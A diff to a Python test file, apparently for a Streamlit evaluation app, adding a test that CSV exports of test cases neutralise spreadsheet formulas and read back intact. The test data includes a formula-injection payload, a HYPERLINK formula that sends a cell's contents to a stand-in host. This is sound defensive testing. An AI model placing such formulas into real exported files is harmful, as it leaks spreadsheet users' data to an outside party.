@@ -142,3 +142,13 @@ def test_streamlits_own_csv_download_of_tables_is_off():
     """st.dataframe's toolbar writes CSV in the browser, past the neutraliser: the app turns that export off."""
     config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
     assert config["client"]["disableDataExport"] is True
+
+
+def test_a_downloaded_cases_csv_reads_back_as_it_was_written():
+    from core.eval_config import TestCase, tests_from_csv, tests_to_csv
+
+    cases = [TestCase(vars={"q": '=HYPERLINK("http://x.example/"&A1,"x")', "n": "-5", "@who": " +1"})]
+    csv_text = tests_to_csv(cases)
+    assert "'=HYPERLINK" in csv_text  # neutralised in the file
+    (back,) = tests_from_csv(csv_text)
+    assert back.vars == cases[0].vars  # and read back unquoted
